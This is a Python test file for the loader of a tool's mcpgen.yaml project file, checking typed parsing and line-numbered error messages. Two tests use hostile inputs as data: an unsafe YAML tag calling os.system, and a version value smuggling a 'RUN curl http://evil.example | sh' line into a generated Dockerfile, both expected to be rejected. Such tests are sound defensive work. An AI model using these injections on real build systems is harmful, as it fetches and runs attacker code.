"""``mcpgen.yaml``: read once, typed, every problem named with file, line and key."""

from __future__ import annotations

from pathlib import Path

import pytest

from mcpgen.config.project import PROJECT_FILE, BuildSettings, load_project_file
from mcpgen.errors import WorkspaceError


def write(root: Path, text: str) -> Path:
    path = root / PROJECT_FILE
    path.write_text(text, encoding="utf-8")
    return path


def problems(root: Path, text: str) -> str:
    path = write(root, text)
    with pytest.raises(WorkspaceError) as info:
        load_project_file(root)
    assert info.value.path == path
    return info.value.message


def test_without_a_file_the_folder_names_the_server(tmp_path: Path) -> None:
    ws = tmp_path / "My Server"
    ws.mkdir()
    project = load_project_file(ws)
    assert (project.name, project.version, project.description, project.instructions) == (
        "My-Server",
        "0.1.0",
        "",
        None,
    )
    assert project.build == BuildSettings()


def test_every_key_is_read(tmp_path: Path) -> None:
    write(
        tmp_path,
        "name: weather\nversion: 2.1.0\ndescription: Forecasts\ninstructions: Ask me\n"
        "build:\n  base_image: python:3.13-slim\n  registry: ghcr.io/me\n  offline: true\n"
        "  python_version: '3.13'\n  tags: [stable, edge]\n",
    )
    project = load_project_file(tmp_path)
    assert (project.name, project.version, project.description, project.instructions) == (
        "weather",
        "2.1.0",
        "Forecasts",
        "Ask me",
    )
    assert project.build == BuildSettings(
        base_image="python:3.13-slim",
        registry="ghcr.io/me",
        offline=True,
        python_version="3.13",
        tags=("stable", "edge"),
    )


def test_numbers_are_text_and_empty_keys_take_their_defaults(tmp_path: Path) -> None:
    write(tmp_path, "name:\nversion: 2\ndescription: ''\nbuild:\n  python_version: 3.12\n  tags: stable\n")
    project = load_project_file(tmp_path)
    assert (project.name, project.version, project.description) == (tmp_path.name, "2", "")
    assert project.build.python_version == "3.12"
    assert project.build.tags == ("stable",)  # one tag, not six letters


def test_yaml_error_names_file_line_and_column(tmp_path: Path) -> None:
    message = problems(tmp_path, "name: ok\nversion: [1, 2\n")
    assert message.startswith(f"{tmp_path / PROJECT_FILE}:")
    assert "invalid YAML" in message


def test_unknown_key_is_named_with_its_line_and_the_keys_allowed(tmp_path: Path) -> None:
    message = problems(tmp_path, "name: ok\nverison: 1\n")
    assert message == (
        f"{tmp_path / PROJECT_FILE}:2: verison: unknown key; "
        "expected one of: build, description, instructions, kubernetes, name, registry, version"
    )


def test_every_problem_is_reported_at_once(tmp_path: Path) -> None:
    message = problems(
        tmp_path, "name: 'has spaces'\nbuild:\n  offline: maybe\n  base_imgae: x\n  tags: [a, {b: c}]\n"
    )
    where = tmp_path / PROJECT_FILE
    lines = message.splitlines()
    assert f"{where}:1: name: 'has spaces' must be 1-64 characters of letters, digits, '_', '.', '-'" in lines
    assert f"{where}:3: build.offline: expected a valid boolean, unable to interpret input" in lines
    assert any(
        line.startswith(f"{where}:4: build.base_imgae: unknown key; expected one of:") for line in lines
    )
    assert f"{where}:5: build.tags.1: expected a valid string" in lines
    assert len(lines) == 4


def test_build_must_be_a_map(tmp_path: Path) -> None:
    message = problems(tmp_path, "name: ok\nbuild: fast\n")
    assert message == f"{tmp_path / PROJECT_FILE}:2: build: expected a map of keys"


def test_the_file_must_be_a_map(tmp_path: Path) -> None:
    message = problems(tmp_path, "- name\n- version\n")
    assert f"{tmp_path / PROJECT_FILE}:1:1: expected a map of project keys" in message


def test_only_plain_yaml_is_read(tmp_path: Path) -> None:
    message = problems(tmp_path, "name: !!python/object:os.system ls\n")
    assert "is not allowed" in message


def test_values_reaching_the_dockerfile_cannot_carry_control_characters(tmp_path: Path) -> None:
    text = (
        'name: ok\nversion: "1.0\\nRUN curl http://evil.example | sh"\n'
        'description: "fine\\nover lines \\u0007bell"\n'
        'build:\n  base_image: "python:3.12\\rX"\n  tags: ["a b"]\n'
    )
    where = tmp_path / PROJECT_FILE
    lines = problems(tmp_path, text).splitlines()
    assert f"{where}:2: version: must be one word: no spaces, newlines or other control characters" in lines
    assert f"{where}:3: description: must not contain control characters (except newlines and tabs)" in lines
    assert any(line.startswith(f"{where}:5: build.base_image: must be one word") for line in lines)
    assert any(line.startswith(f"{where}:6: build.tags") for line in lines)
    assert "evil" not in "\n".join(lines)  # the value itself is never echoed
    ok = load_project_file(
        write(tmp_path, 'name: ok\nversion: 1.0.0+local.2\ndescription: "two\\nlines"\n').parent
    )
    assert ok.version == "1.0.0+local.2"
